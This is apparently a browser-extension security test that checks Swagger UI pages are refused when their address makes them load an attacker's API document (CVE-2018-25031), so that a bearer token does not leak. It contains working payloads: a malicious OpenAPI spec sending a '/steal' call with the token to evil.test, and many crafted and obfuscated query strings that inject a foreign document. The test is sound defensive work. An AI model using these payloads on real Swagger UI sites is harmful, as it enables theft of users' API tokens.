import type { Page } from 'puppeteer-core';
import { beforeAll, expect, it } from 'vitest';
import { useScene } from '../scene';
import { ask, authorizeAll } from './asking';
import { mustHaveComeAbout } from './come-about';
import { anySiteDraft } from './drafts';
import { serve } from './serving';

/** Pages on the right origin whose address makes them load the attacker's API document (CVE-2018-25031). */

const scene = useScene({ https: ['evil.test'] });
const TOKEN = 'made-up-canary-for-a-foreign-document';
const FIVE = 'https://docs.example.test/configurable/';
const THREE = 'https://my.panaya.com/api/three/';
const DOCUMENT = 'https://evil.test/document.json';
const CONFIG = 'https://evil.test/config.json';

/** Names the right server for the document, and another one for the operation. */
const EVIL = {
  openapi: '3.0.1',
  info: { title: 'Example API', version: '1' },
  servers: [{ url: 'https://docs.example.test' }],
  components: { securitySchemes: { bearerAuth: { type: 'http', scheme: 'bearer' } } },
  paths: {
    '/steal': {
      get: {
        servers: [{ url: 'https://evil.test' }],
        security: [{ bearerAuth: [] }],
        responses: { 200: { description: 'OK' } },
      },
    },
  },
};

/** The same, as Swagger UI 5 puts it together from the names of parameters (lodash paths). */
const INLINE = [
  'openapi=3.0.1&info.title=x&info.version=1&servers[0].url=https://docs.example.test',
  'components.securitySchemes.bearerAuth.type=http&components.securitySchemes.bearerAuth.scheme=bearer',
  'paths["/steal"].get.servers[0].url=https://evil.test&paths["/steal"].get.security[0].bearerAuth[0]=',
  'paths["/steal"].get.responses.200.description=OK',
].flatMap((part) => part.split('&'));

const swaggerUi = (assets: string, document: string) => `<!doctype html><div id="swagger-ui"></div>
<script src="${assets}swagger-ui-bundle.js"></script><script src="${assets}swagger-ui-standalone-preset.js"></script>
<script>window.ui = SwaggerUIBundle({ url: '${document}', dom_id: '#swagger-ui', queryConfigEnabled: true, docExpansion: 'full',
presets: [SwaggerUIBundle.presets.apis, SwaggerUIStandalonePreset], layout: 'StandaloneLayout' });</script>`;

/** A foreign document is refused, or asked about like a foreign server. */
const REFUSED = ['foreign_spec', 'server_outside'];

const FOREIGN: readonly string[] = [
  ...[`url=${DOCUMENT}`, 'url=//evil.test/document.json', `configUrl=${CONFIG}`, `config=${CONFIG}`].flatMap(
    (query) => [`${FIVE}?${query}`, `${THREE}?${query}`],
  ),
  ...[`[url]=${DOCUMENT}`, `["url"]=${DOCUMENT}`, `['configUrl']=${CONFIG}`, `["u\\rl"]=${DOCUMENT}`].map(
    (query) => `${FIVE}?${query}`,
  ),
  ...['[0].', '.0.', '["0"].'].map((first) => `${FIVE}?urls${first}url=${DOCUMENT}&urls${first}name=a`),
  `${FIVE}?${INLINE.map((part) => `spec.${part}`).join('&')}`,
  // A path's quoted part loses its backslashes.
  `${FIVE}?${INLINE.map((part) => `["s\\pec"].${part.replace('.url=', '["u\\rl"]=')}`).join('&')}`,
];
const FRIENDLY: readonly string[] = [
  `${FIVE}?url=/bearer/openapi.json`,
  `${FIVE}?url=https://docs.example.test/bearer/openapi.json`,
  `${FIVE}?configUrl=/friendly.json`,
  `${FIVE}?urls.primaryName=Second`,
  `${FIVE}#/things/listThings`,
];

beforeAll(async () => {
  await scene.reset();
  const { faults } = scene.providers;
  serve(faults, FIVE, swaggerUi('/bearer/', '/bearer/openapi.json'));
  serve(faults, THREE, swaggerUi('/api/webjars/springfox-swagger-ui/', '/api/v2/api-docs'));
  serve(faults, 'https://docs.example.test/friendly.json', { url: '/bearer/openapi.json' });
  serve(faults, DOCUMENT, EVIL);
  serve(faults, CONFIG, { url: DOCUMENT });
  serve(faults, 'https://evil.test/steal', { stolen: true });
  const options = await scene.browser.openExtensionPage('options.html');
  for (const page of [FIVE, THREE]) {
    await ask(options, 'saveConnection', { draft: anySiteDraft(new URL(page).origin, TOKEN) });
  }
});

/** What Tokenfill says, and what the attacker's server gets when the page's own Execute is pressed all the same. */
async function visit(url: string) {
  const { log } = scene.providers;
  log.clear();
  const page = await scene.browser.newPage(url);
  await page.waitForSelector('.opblock');
  const popup = await scene.open(page);
  await popup.see('.page-summary');
  const codes = await authorizeAll(popup.page);
  await popup.page.close();
  const foreign = log.to('evil.test').length > 0 || url.includes('.openapi=');
  if (codes.includes('done')) await pressExecute(page);
  await page.close();
  return {
    url,
    filled: codes.includes('done'),
    codes,
    foreign,
    leaked: JSON.stringify(log.to('evil.test')).includes(TOKEN),
  };
}

async function pressExecute(page: Page): Promise<void> {
  await page.click('.try-out__btn').catch(() => undefined);
  await page.click('.execute').catch(() => undefined);
  await page.waitForSelector('.btn-clear');
}

it('[S28] a page whose address names a foreign document is refused, and nothing leaks', {
  timeout: 120_000,
}, async () => {
  const foreign = [];
  for (const url of FOREIGN) foreign.push(await visit(url));
  const friendly = [];
  for (const url of FRIENDLY) friendly.push(await visit(url));

  const refused = foreign.filter(({ filled }) => !filled).length;
  console.info(`figures: ${foreign.length} addresses that name a foreign document, ${refused} refused;`);
  console.info(
    `  ${foreign.filter((row) => row.foreign).length} of them work on the page; ${friendly.length} friendly ones`,
  );
  expect(foreign.filter(({ leaked, filled }) => leaked || filled)).toEqual([]);
  expect(foreign.filter(({ codes }) => !codes.some((code) => REFUSED.includes(code)))).toEqual([]);
  mustHaveComeAbout(
    'friendly documents are filled',
    friendly.every(({ filled }) => filled),
  );
});
